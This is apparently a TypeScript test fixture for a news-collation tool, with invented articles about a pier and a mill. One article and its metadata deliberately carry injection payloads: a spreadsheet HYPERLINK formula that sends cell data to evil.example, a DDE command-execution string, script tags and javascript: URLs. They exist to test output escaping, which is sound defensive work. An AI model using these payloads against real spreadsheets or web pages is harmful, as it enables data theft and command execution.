/**
 * A run made by hand, so that what the outputs write depends on no rule of any stage: a story of three articles, one of two, one article
 * alone. Towns, papers and people are invented; the third article does what it can to break out of a table, a page or a document.
 */
import type { Cell, CellPassage, Row } from "../src/model/collation.ts";
import type { Findings } from "../src/model/findings.ts";
import type { ReadArticle, Run } from "../src/model/run.ts";
import type { Span, Voice } from "../src/model/span.ts";
import { integrity } from "../src/stages/integrity/integrity.ts";
import { tokenise } from "../src/stages/reading/reading.ts";
import { articleOf } from "../src/stages/reading/testing.ts";
import { createLexicon } from "../src/text/lexicon.ts";

const POST = `Pier reopens in Ostby 🚢
The pier in Ostby reopened on Monday. At least 40 people cheered, the mayor said.
“We are glad that it is done, and we will not close it again,” Mayor Edda Lund said.`;

// The letters "о" and "е" of "goes on" and "people" are Cyrillic, and a soft hyphen stands in "harbour".
const GAZETTE = `Ostby pier open again
About 60 p\u0435\u043eple came when the pier opened again, the har\u00adbour office said.
“We are glad that it is done, and we will n\u043et close it again,” said Lund.`;

const HOSTILE = `=HYPERLINK("https://evil.example/?"&A1,"Pier")
@SUM(1+1) 61 people | came | to see <script>alert(1)</script> and [the pier](javascript:alert(1)) ![x](https://evil.example/x.png).
“We're glad, & we *will not* close it: see https://evil.example/a?b=c_d or www.evil.example, mail lund@evil.example,” Lund said.
\`code\` ]]> --> <!-- </rdg></TEI> \u0007 \u202eback\u202c &amp; "quoted" 'twice' \\ # _ ~ $ x`;

const MILL = "Mill burns in Tarn\nThe mill in Tarn burned on Friday.\n“Nobody was hurt,” the fire chief said.";
const MILL_AGAIN = "Fire at the mill\nA mill burned in Tarn on Friday.\n“Nobody was hurt,” the fire chief said.";
const ALONE = "Corn prices fall\nCorn prices fell in Lindmere, traders said.";

const ARTICLES = [
  read("a1", "clippings/01-post.txt", POST, { outlet: "Ostby Post", url: "https://post.example/pier?a=1&b=2", published: "2031-04-07T08:00:00+02:00" }),
  read("a2", "clippings/02 gazette#1.txt", GAZETTE, { published: "2031-04-07T09:30Z" }),
  read("a3", "clippings/=03.txt", HOSTILE, { outlet: "=cmd|' /C calc'!A0", url: "javascript:alert(1)", title: '=HYPERLINK("https://evil.example/?"&A1,"Pier")' }),
  read("b1", "mill/1.txt", MILL, { outlet: "Tarn Bell", published: "2031-04-11" }),
  read("b2", "mill/2.txt", MILL_AGAIN, { outlet: "Tarn Herald", published: "2031-04-12" }),
  read("c1", "corn.txt", ALONE, {}),
];

const [A, B, C, D, E] = ARTICLES as [ReadArticle, ReadArticle, ReadArticle, ReadArticle, ReadArticle];

const ROWS: readonly Row[] = [
  row("0000000000000001", "figure", "conflict", ['A “At least 40 people”, B “60 people”: both cannot hold'], 3, 3, 2, [
    says(passage(A, "40 people", "attributed", "the mayor")),
    says(passage(B, "60 p\u0435\u043eple", "attributed", "the har\u00adbour office")),
    says(passage(C, "61 people", "own")),
  ]),
  row("0000000000000002", "quote", "differ", ["words: C has other words"], 3, 2, 1, [
    says(passage(A, "We are glad that it is done, and we will not close it again,", "quoted", "Mayor Edda Lund")),
    says(passage(B, "We are glad that it is done, and we will n\u043et close it again,", "quoted", "Lund")),
    says(passage(C, "We're glad, & we *will not* close it:", "quoted", "Lund"), passage(C, "see https://evil.example/a?b=c_d or www.evil.example, mail lund@evil.example,", "quoted", "Lund")),
  ]),
  row("0000000000000003", "name", "differ", [], 2, 2, 0, [
    says({ ...passage(A, "Mayor Edda Lund", "own"), count: 1 }),
    says({ ...passage(B, "Lund", "own"), count: 2 }),
    { state: "unknown", why: "breaks off", nearest: null },
  ]),
  row("0000000000000004", "statement", "single", [], 1, 1, 0, [
    says(passage(A, "The pier in Ostby reopened on Monday.", "own")),
    { state: "silent", nearest: { ...at(B, "the pier opened again"), score: 0.41234 } },
    { state: "unknown", why: "another language", nearest: { ...at(C, "=HYPERLINK("), score: 0.2 } },
  ]),
  row("0000000000000005", "statement", "single", [], 1, 1, 0, [{ state: "silent", nearest: null }, { state: "silent", nearest: null }, says(passage(C, "<script>alert(1)</script> and [the pier](javascript:alert(1)) ![x](https://evil.example/x.png).", "own"), passage(C, "`code` ]]> --> <!-- </rdg></TEI> \u0007 \u202eback\u202c &amp; \"quoted\" 'twice' \\ # _ ~ $ x", "own"))], 0.3),
];

const MILL_ROWS: readonly Row[] = [
  row("0000000000000006", "quote", "agree", [], 2, 1, 1, [says(passage(D, "Nobody was hurt,", "quoted", "the fire chief")), says(passage(E, "Nobody was hurt,", "quoted", "the fire chief"))]),
];

export const RUN: Run = {
  articles: ARTICLES,
  copies: {
    passages: [{ a: { article: "b1", ...at(D, "“Nobody was hurt,” the fire chief said.") }, b: { article: "b2", ...at(E, "“Nobody was hurt,” the fire chief said.") }, kind: "exact", similarity: 1, direction: "undecided", because: ["undecided: as long"], tokens: 9 }],
    pairs: [{ a: "b1", b: "b2", shareOfA: 0.5, shareOfB: 0.48, direction: "b-from-a", because: ['"=Tarn" is named'] }],
  },
  stories: [
    { id: "5000000000000001", articles: ["a1", "a2", "a3"], links: [{ between: ["a1", "a2"], score: 0.9, because: ['both name "Ostby"'] }, { between: ["a2", "a3"], score: 0.4, because: ['both name "Lund"'] }] },
    { id: "5000000000000002", articles: ["b1", "b2"], links: [{ between: ["b1", "b2"], score: 0.8, because: ['both name "Tarn"'] }] },
    { id: "5000000000000003", articles: ["c1"], links: [] },
  ],
  collations: [
    { story: "5000000000000001", columns: ["a1", "a2", "a3"], origins: [["a1", "a2"], ["a3"]], rows: ROWS },
    { story: "5000000000000002", columns: ["b1", "b2"], origins: [["b1", "b2"]], rows: MILL_ROWS },
  ],
  problems: [{ code: "missing", name: "gone|*.txt", message: "there is no such file.", severity: "unread" }],
};

/** The same hash for the same words; no secret depends on it. */
export function hash(words: string): string {
  let sum = 0;
  for (const character of words) sum = (sum * 31 + character.codePointAt(0)!) % 0x1fffffffffffff;
  return sum.toString(16).padStart(16, "0");
}

function read(id: string, name: string, text: string, given: { readonly outlet?: string; readonly url?: string; readonly published?: string; readonly title?: string }): ReadArticle {
  const { url, ...known } = given;
  const article = { ...articleOf(text, { id, title: text.slice(0, text.indexOf("\n")), ...known }), name, url: url ?? null };
  const { flags, edits } = integrity(article);
  return { reading: tokenise(article, flags, edits, createLexicon()), findings: findingsOf(text) };
}

/** One finding of each kind, with every field there is. */
function findingsOf(text: string): Findings {
  const lund = text.includes("Lund") ? spanOf(text, "Lund") : null;
  const number = /\d\d (?=people|p\u0435)/.exec(text);
  return {
    quotes: lund === null ? [] : [{ ...spanOf(text, "We"), form: "direct", utterance: "u1", speaker: { span: lund, name: "Edda Lund", inferred: false }, cue: { span: spanOf(text, "said"), judges: false }, fragments: [spanOf(text, "glad")], confidence: 0.91234, by: "marks" }],
    figures:
      number === null || lund === null
        ? []
        : [{ start: number.index, end: number.index + 2, low: Number(number[0]), high: null, bound: "at-least", unit: null, counted: { start: number.index + 3, end: number.index + 9 }, happened: "cheered", where: lund, partOf: "=the crowd", source: { span: lund, name: "-Lund" }, asOf: "2031-04-07", since: "2031-04-01", change: "risen", scope: "total", voice: "attributed", confidence: 0.5, by: "number" }],
    dates: text.includes("Monday") ? [{ ...spanOf(text, "Monday"), type: "date", value: "2031-04-07", by: "weekday" }] : [],
    mentions: lund === null ? [] : [{ ...lund, entity: "e1", type: "person", form: "name", voice: "own", by: "name" }],
    entities: lund === null ? [] : [{ id: "e1", name: "Edda Lund", type: "person" }],
    terms: [],
  };
}

function row(id: string, kind: Row["kind"], relation: Row["relation"], because: readonly string[], articles: number, origins: number, sources: number, cells: readonly Cell[], confidence = 0.9): Row {
  return { id, kind, relation, because, pairs: [], articles, origins, sources, confidence, cells };
}

function says(...passages: readonly CellPassage[]): Cell {
  return { state: "says", passages };
}

function passage(article: ReadArticle, words: string, voice: Voice, source?: string): CellPassage {
  return { ...at(article, words), voice, ...(source !== undefined && { source: at(article, source) }) };
}

function at(article: ReadArticle, words: string): Span {
  return spanOf(article.reading.article.text, words);
}

function spanOf(text: string, words: string): Span {
  const start = text.indexOf(words);
  if (start < 0) throw new Error(`the text has no “${words}”`);
  return { start, end: start + words.length };
}
